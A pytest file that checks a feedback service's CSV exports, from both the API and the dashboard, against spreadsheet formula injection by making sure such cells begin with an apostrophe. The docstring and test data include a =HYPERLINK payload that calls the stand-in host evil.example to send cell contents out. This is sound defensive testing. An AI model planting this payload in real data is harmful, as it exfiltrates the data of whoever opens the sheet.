"""No CSV the service writes can run as a spreadsheet formula: the API's and the dashboard's alike.

A description such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` is a formula to Excel and
LibreOffice: opening the export and clicking it would send the sheet away. Both downloads go
through :mod:`feedback_service.csv_tables`, which writes such cells with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from service_api import Api

from feedback_service.csv_tables import FORMULA_STARTS, csv_text, safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULAS = [EVIL, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1", "＝1+1"]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_starts_with_an_apostrophe(text: str) -> None:
    """=, +, -, @, tab, CR (and their full-width forms), even after spaces: written as text."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 0, 2.5, -0.5])
def test_numbers_stay_numbers(value: float) -> None:
    """A negative count is a number, not a formula: it is written as it is."""
    assert safe_cell(value) == value
    assert csv_text(["n"], [[value]]).splitlines()[1] == str(value)


@given(st.text())
def test_no_cell_starts_a_formula_and_safe_text_is_unchanged(text: str) -> None:
    """Whatever the text, its cell never starts with a formula character; other text is untouched."""
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell[:1] or cell[0] not in FORMULA_STARTS
    if not text.lstrip()[:1] or (text.lstrip()[0] not in FORMULA_STARTS and text[0] not in FORMULA_STARTS):
        assert cell == text
    else:
        assert cell == "'" + text


def test_the_apis_ticket_csv_guards_descriptions(api: Api) -> None:
    """``GET /tickets?format=csv``: the description is in the CSV, as text, never as a formula."""
    ticket = api.create(description=EVIL)
    response = api.get("/tickets?format=csv", who="official_c1")
    assert response.status_code == 200
    (row,) = _rows(response.text)
    assert row["id"] == ticket["id"]
    assert row["description"] == "'" + EVIL


def test_the_apis_trend_csv_goes_through_the_guard(api: Api) -> None:
    """A trend CSV is written by the same module: the header and the cells as the guard writes them."""
    api.create()
    response = api.get("/trends/summary?format=csv", who="province")
    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0] == ["figure", "value"]
    assert all(not cell[:1] or cell[0] not in FORMULA_STARTS for row in rows for cell in row)


def _signed_in(api: Api, who: str) -> None:
    page = api.client.get("/dashboard/sign-in")
    found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert found, page.text[:500]
    response = api.client.post(
        "/dashboard/sign-in",
        data={"token": api.tokens[who], "csrf_token": found.group(1), "lang": "vi"},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text


def test_the_dashboards_ticket_csv_guards_descriptions(api: Api) -> None:
    """The dashboard's ticket download writes the same description with the same apostrophe."""
    ticket = api.create(description=EVIL)
    _signed_in(api, "official_c1")
    response = api.client.get("/dashboard/export/tickets.csv?village=C1-01")
    assert response.status_code == 200, response.text
    (row,) = [r for r in _rows(response.text) if r["id"] == ticket["id"]]
    assert row["description"] == "'" + EVIL
